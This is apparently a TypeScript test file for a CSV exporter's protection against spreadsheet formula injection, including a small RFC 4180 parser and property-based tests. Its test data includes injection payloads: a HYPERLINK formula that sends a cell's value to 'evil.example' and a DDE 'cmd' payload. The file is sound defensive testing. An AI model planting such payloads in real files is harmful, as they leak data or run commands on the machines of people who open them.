import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { neutraliseCell, toCsv } from './csv.js'

/** A strict RFC 4180 reader (CRLF records, `"` quoting), enough to read back what toCsv writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let i = 0
  let quoted = false
  while (i < text.length) {
    const c = text[i] ?? ''
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i += 2
      } else if (c === '"') {
        quoted = false
        i++
      } else {
        cell += c
        i++
      }
    } else if (c === '"') {
      quoted = true
      i++
    } else if (c === ',') {
      row.push(cell)
      cell = ''
      i++
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i += 2
    } else {
      cell += c
      i++
    }
  }
  if (cell !== '' || row.length > 0) throw new Error('the last record has no CRLF')
  return rows
}

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
const opensFormula = (s: string) => DANGEROUS.some((d) => s.startsWith(d))

/** Text that often starts like a formula, with quotes, commas and line breaks inside. */
const cellText = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc
    .tuple(fc.constantFrom(...DANGEROUS), fc.string({ unit: 'binary', maxLength: 30 }))
    .map(([a, b]) => a + b),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3',
    '',
  ),
)

describe('CSV exports (OWASP CSV injection)', () => {
  it('neutralises a cell that starts a formula with a single quote, and leaves others alone', () => {
    expect(neutraliseCell('=HYPERLINK("http://x")')).toBe('\'=HYPERLINK("http://x")')
    expect(neutraliseCell('+1')).toBe("'+1")
    expect(neutraliseCell('-1')).toBe("'-1")
    expect(neutraliseCell('@A1')).toBe("'@A1")
    expect(neutraliseCell('\t=1')).toBe("'\t=1")
    expect(neutraliseCell('\r=1')).toBe("'\r=1")
    expect(neutraliseCell('＝1+1')).toBe("'＝1+1")
    expect(neutraliseCell('venue_overlap household')).toBe('venue_overlap household')
    expect(neutraliseCell('2026-11-28T01:02:03.000Z')).toBe('2026-11-28T01:02:03.000Z')
    expect(neutraliseCell('')).toBe('')
  })

  it('writes a BOM, a header and CRLF records; numbers stay numbers, null is empty', () => {
    const csv = toCsv(['a', 'b', 'c'], [['=1', -2, null]])
    expect(csv).toBe("\uFEFFa,b,c\r\n'=1,-2,\r\n")
  })

  it('property: no text cell read back starts a formula, and each reads back as written (less the quote)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ maxLength: 8 }), { minLength: 1, maxLength: 5 }),
        fc.array(fc.array(cellText, { minLength: 5, maxLength: 5 }), { maxLength: 8 }),
        (header, body) => {
          const columns = [...header, ...Array<string>(5).fill('x')].slice(0, 5)
          const text = toCsv(columns, body)
          expect(text.startsWith('\uFEFF')).toBe(true)
          const read = parseCsv(text.slice(1))
          expect(read).toHaveLength(body.length + 1)
          const written = [columns, ...body]
          read.forEach((row, r) => {
            expect(row).toHaveLength(5)
            row.forEach((cell, c) => {
              const original = written[r]?.[c] ?? ''
              expect(opensFormula(cell)).toBe(false)
              expect(cell).toBe(opensFormula(original) ? `'${original}` : original)
            })
          })
        },
      ),
      { numRuns: 300 },
    )
  })

  it('quotes a cell holding a bare line feed or carriage return (RFC 4180 §2.6), so it stays one cell', () => {
    expect(toCsv(['a', 'b'], [['x\n=1+1', 'y\rz']])).toBe('\uFEFFa,b\r\n"x\n=1+1","y\rz"\r\n')
  })
})
